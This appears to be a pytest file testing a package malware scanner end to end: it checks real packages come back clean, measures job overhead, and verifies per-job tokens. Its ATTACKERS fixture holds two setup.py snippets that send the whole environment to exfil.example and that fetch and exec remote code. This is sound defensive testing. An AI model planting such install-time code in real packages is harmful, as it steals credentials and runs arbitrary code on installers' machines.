"""Real packages and harmless attackers of ours, through nginx, API, queue, worker, Job, result and callback."""

from __future__ import annotations

import datetime
import json
import statistics
import uuid

import pytest
from cluster.commands import ANALYSIS, objects, say, tried

PACKAGES = ("pkg:pypi/idna@3.10", "pkg:npm/is-odd@3.0.1")
ATTACKERS = {
    "steals the environment": "import os, urllib.request\n"
    "urllib.request.urlopen('https://exfil.example/x', data=repr(dict(os.environ)).encode())\n",
    "runs what it fetches": "import urllib.request\nexec(urllib.request.urlopen('https://exfil.example/x').read())\n",
}
"""Of setup.py, which runs at installation. Harmless: the host does not exist, and nothing of a package is ever run."""
OVERHEAD_S = 5.0
"""From submission to report beyond the scan's own time, in the middle of the runs."""


def seconds(found, report):
    """(from submission to the end, the scan's own)."""
    begun, ended = (datetime.datetime.fromisoformat(found[name]) for name in ("created_at", "finished_at"))
    return (ended - begun).total_seconds(), sum(report["timings_ms"].values()) / 1000


@pytest.mark.parametrize("purl", PACKAGES)
def test_a_real_package_is_analysed(door, judged, transport, purl):
    body = json.dumps({"purl": purl, "lane": "interactive", "force": True}).encode()
    found, report = judged(door.ask("/api/v1/analyses", body))
    assert found["state"] == "done", found
    assert report["verdict"]["level"] == "clean"
    whole, own = seconds(found, report)
    say(f"   {purl} by {transport}: {whole:.1f} s, of it the scan {own:.1f} s")


@pytest.mark.parametrize("what", ATTACKERS)
def test_an_attacker_is_told(door, judged, analyse, what):
    name = f"attacker-{uuid.uuid4().hex[:8]}"
    content = analyse.sdist(
        name, {"setup.py": ATTACKERS[what] + f"# {uuid.uuid4()}\nfrom setuptools import setup\nsetup()\n"}
    )
    found, report = judged(door.upload(name, content))
    assert found["state"] == "done", found
    assert report["verdict"]["level"] == "malicious", report["verdict"]


def test_a_job_costs_little_beyond_the_scan(door, judged, analyse, transport):
    costs = []
    for _ in range(7):
        name = f"harmless-{uuid.uuid4().hex[:8]}"
        found, report = judged(door.upload(name, analyse.sdist(name)))
        assert found["state"] == "done", found
        whole, own = seconds(found, report)
        costs.append(whole - own)
    middle = statistics.median(costs)
    say(f"   overhead of a Job by {transport}: p50 {middle:.2f} s, {min(costs):.2f} to {max(costs):.2f} s")
    assert middle <= OVERHEAD_S


def test_what_ran_was_a_job_with_a_token_of_its_own(door, judged, analyse):
    name = f"harmless-{uuid.uuid4().hex[:8]}"
    found, _ = judged(door.upload(name, analyse.sdist(name)))
    (job,) = [
        one for one in objects("jobs", namespace=ANALYSIS) if found["id"] in json.dumps(one["metadata"]["annotations"])
    ]
    secret = tried("get", "secret", job["metadata"]["name"], "--output", "json", namespace=ANALYSIS)
    assert json.loads(secret.stdout)["metadata"]["ownerReferences"][0]["uid"] == job["metadata"]["uid"]
    assert found["id"] not in json.dumps(job["metadata"]["labels"])


def test_many_at_once_all_end_and_none_is_lost(door, analyse):
    ids = []
    for _ in range(12):
        name = f"harmless-{uuid.uuid4().hex[:8]}"
        status, body = door.upload(name, analyse.sdist(name))
        assert status == 202
        ids.append(json.loads(body))
    ends = [door.follow(one, 600)["state"] for one in ids]
    assert ends == ["done"] * len(ids)
